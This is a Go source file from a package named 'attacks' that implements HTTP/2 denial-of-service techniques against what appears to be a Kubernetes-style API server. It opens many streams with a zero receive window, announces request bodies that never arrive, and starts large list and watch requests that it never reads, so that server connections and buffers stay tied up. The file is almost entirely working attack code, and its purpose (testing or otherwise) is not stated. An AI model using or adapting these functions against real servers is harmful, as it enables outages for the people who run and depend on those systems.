package attacks

import (
	"context"
	"fmt"
	"net/http"

	"golang.org/x/net/http2"
)

// Requests that want something of the server, and leave it waiting.

// holding opens streams on a connection and keeps it.
func holding(streams int, open func(c *connection, a *attacker, n int), settings ...http2.Setting) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		c, err := a.dial(ctx, a.config, false, settings...)
		if err != nil {
			return err
		}
		defer c.close()
		for n := range streams {
			open(c, a, n)
		}
		return c.wait(ctx)
	}
}

var noWindow = http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}

// unreadVersion says who it is, which needs no right, and has no window for the answer: so the
// connection is in use.
func unreadVersion(c *connection, a *attacker, _ int) {
	c.request(true, nil, http.MethodGet, "/version", a.Token)
}

// withoutBody announces a body that does not come.
func withoutBody(c *connection, a *attacker, _ int) {
	c.request(false, nil, http.MethodPost, a.Lists, a.Token, "content-type", "application/json", "content-length", "100")
}

// unreadList asks for a large list and has no window for it.
func unreadList(c *connection, a *attacker, _ int) {
	c.request(true, nil, http.MethodGet, a.Lists+"?resourceVersion=0", a.Token)
}

// unreadWatch asks for the state and all events, and has no window for them.
func unreadWatch(c *connection, a *attacker, n int) {
	c.request(true, nil, http.MethodGet, fmt.Sprintf("%s?watch=true&sendInitialEvents=true&resourceVersionMatch=NotOlderThan&allowWatchBookmarks=true&timeoutSeconds=%d", a.Lists, 600+n), a.Token)
}

// deafWatch gives the server all windows and reads nothing, so that the operating system's
// buffers fill.
func deafWatch(ctx context.Context, a *attacker) error {
	c, err := a.dial(ctx, a.config, true, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1})
	if err != nil {
		return err
	}
	defer c.close()
	c.do(c.framer.WriteSettingsAck())
	c.do(c.framer.WriteWindowUpdate(0, 1<<30))
	for n := range 20 {
		unreadWatch(c, a, n)
	}
	if c.failed != nil {
		return c.failed
	}
	<-ctx.Done()
	return nil
}
